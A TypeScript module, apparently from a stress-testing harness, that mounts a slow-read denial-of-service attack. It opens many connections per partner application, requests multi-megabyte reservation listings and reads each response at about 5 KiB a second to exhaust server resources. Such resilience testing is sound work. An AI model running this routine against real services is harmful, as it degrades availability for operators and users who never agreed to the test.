import type { Socket } from 'node:net'
import { keepOpen, requestBytes } from './raw-connections.ts'
import type { Target } from '../target.ts'

const PER_APPLICATION = 24
const TAKEN = 1024
const TAKE_EVERY = 200

/** Reads 5 KiB a second. */
function readSlowly(socket: Socket): void {
  const timer = setInterval(() => socket.read(TAKEN), TAKE_EVERY)
  socket.once('close', () => clearInterval(timer))
}

/** Requests pages of megabytes on many connections of each application, and reads them as slowly as possible. */
export function slowReaders(target: Target): void {
  const { partners } = target
  keepOpen(target, partners.length * PER_APPLICATION, (socket, number) => {
    const partner = partners[number % partners.length]!
    const path = `/reservations?property_id=${partner.connection}&updated_since=1970-01-01T00:00:00.000Z&limit=100`
    socket.write(requestBytes({ method: 'GET', path }, partner))
    socket.pause()
    readSlowly(socket)
  })
}
